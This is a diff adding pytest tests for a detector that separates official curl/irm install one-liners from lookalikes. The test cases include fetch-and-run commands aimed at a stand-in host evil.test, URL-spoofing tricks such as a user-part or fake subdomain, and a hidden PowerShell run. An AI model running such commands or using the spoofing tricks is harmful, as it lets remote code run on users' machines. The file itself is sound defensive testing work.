@@ -1,0 +1,69 @@
+"""Known installers are recognised by parsed URL, and every trick to borrow their trust fails."""
+
+import pytest
+
+from app.detection import Engine, Level
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
+        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
+        "irm get.scoop.sh | iex",
+        'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
+        "curl -LsSf https://astral.sh/uv/install.sh | sh",
+        "curl -fsSL https://bun.sh/install | bash",
+        "irm https://deno.land/install.ps1 | iex",
+        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash",
+        "curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh",
+        "curl -fsSL https://ollama.com/install.sh | sh",
+        "iwr https://get.pnpm.io/install.ps1 -useb | iex",
+        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"',
+        "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient)"
+        ".DownloadString('https://community.chocolatey.org/install.ps1'))",
+    ],
+)
+def test_official_installers_are_info(engine: Engine, command: str) -> None:
+    verdict = engine.analyze(command)
+    assert verdict.level is Level.INFO, verdict.rule_ids
+    assert "PG-INFO-KNOWN-INSTALLER" in verdict.rule_ids
+    assert "official" in verdict.summary
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -fsSL https://sh.rustup.rs@evil.test/x.sh | sh",  # user part hides the real host
+        "curl -fsSL https://raw.githubusercontent.com.evil.test/Homebrew/install/x.sh | bash",
+        "curl http://evil.test/p | bash # https://sh.rustup.rs",  # trusted URL only in a comment
+        "curl -fsSL https://bun.sh/install | bash && curl -s https://evil.test/x | sh",  # mixed chain
+        "curl -fsSL http://sh.rustup.rs | sh",  # plain HTTP can be tampered with on the way
+        "curl -fsSL https://raw.githubusercontent.com/attacker/tools/main/x.sh | sh",  # other owner
+        "curl -fsSL https://pastebin.com/raw/abcd1234 | bash",  # never-trusted host
+        "irm https://get.scoop.sh | iex; powershell -w hidden -c calc",  # installer plus hidden run
+    ],
+)
+def test_borrowed_trust_is_refused(engine: Engine, command: str) -> None:
+    verdict = engine.analyze(command)
+    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
+    assert "PG-INFO-KNOWN-INSTALLER" not in verdict.rule_ids
+
+
+def test_deceptive_installer_lookalikes_are_malicious(engine: Engine) -> None:
+    for command in (
+        "curl -fsSL https://sh.rustup.rs@evil.test/x.sh | sh",
+        "curl http://evil.test/p | bash # https://sh.rustup.rs",
+    ):
+        assert engine.analyze(command).level is Level.MALICIOUS, command
+
+
+def test_policy_can_trust_an_internal_installer() -> None:
+    from app.detection.engine import default_trust_path
+    from app.detection.trust import TrustList
+
+    trust = TrustList.load(default_trust_path(), extra_installers=["https://tools.corp.example/"])
+    engine = Engine(trust=trust)
+    verdict = engine.analyze("curl -fsSL https://tools.corp.example/install.sh | sh")
+    assert verdict.level is Level.INFO
+    assert Engine().analyze("curl -fsSL https://tools.corp.example/install.sh | sh").flagged
